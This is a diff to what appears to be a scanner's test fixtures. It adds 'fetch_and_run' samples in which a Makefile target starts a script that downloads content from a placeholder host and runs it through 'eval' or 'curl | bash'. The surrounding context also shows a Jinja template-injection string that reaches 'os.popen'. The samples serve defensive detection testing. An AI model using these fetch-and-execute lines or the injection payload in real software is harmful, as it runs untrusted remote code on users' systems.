@@ -15,6 +15,14 @@ _FORMATTER = (
 )
 _TEMPLATE = '{{\n"template": "{{% for each in all %}}{{{{ each }}}}{{% endfor %}}{}"}}\n'
 _REACHES = "{{ cycler.__init__.__globals__.os.popen('echo a').read() }}"
+_SETTINGS = 'settings=$(curl -fsS "https://a.invalid/$1.{}")\n'
+
+
+def _asked(script: str) -> dict[str, str | bytes]:
+    """A script that a target of `make` starts, as the manual says."""
+    return {"README.md": "Run `make up`.\n", "Makefile": "all:\n\t@true\n\nup:\n\tsh a.sh dev\n", "a.sh": script}
+
+
 _MACHINE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00This program cannot be run in DOS mode.\r\nPE\x00\x00"
 
 
@@ -50,6 +58,17 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             ("bin/a.exe", 0),
         ),
     },
+    "fetch_and_run": {
+        "settings by their address, which are run": Sample(
+            _asked(_SETTINGS.format("env") + 'eval "$settings"\n'), "block", ("a.sh", 2)
+        ),
+        "a picture by its address, which is run": Sample(
+            _asked("curl -s https://a.invalid/logo.png?v=2 | bash\n"), "block", ("a.sh", 1)
+        ),
+        "an installer by its address, which is run": Sample(
+            _asked(_SETTINGS.format("sh") + 'eval "$settings"\n'), "review", ("a.sh", 2)
+        ),
+    },
     "shipped_object": {
         "a template that is loaded from a folder that is given": Sample(
             {"chat/app.py": _FORMATTER, "model/chat.json": _TEMPLATE.format(_REACHES)}, "block", ("model/chat.json", 2)
@@ -58,6 +77,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "fetch_and_run": {
+        "settings by their address, which are read": _asked(
+            _SETTINGS.format("env") + 'echo "$settings" | grep PEERS\n'
+        ),
+    },
     "unread_code": {
         "no program at all, without a window": {
             key: value.replace('start "" a.exe', "ver > a.txt") if isinstance(value, str) else value
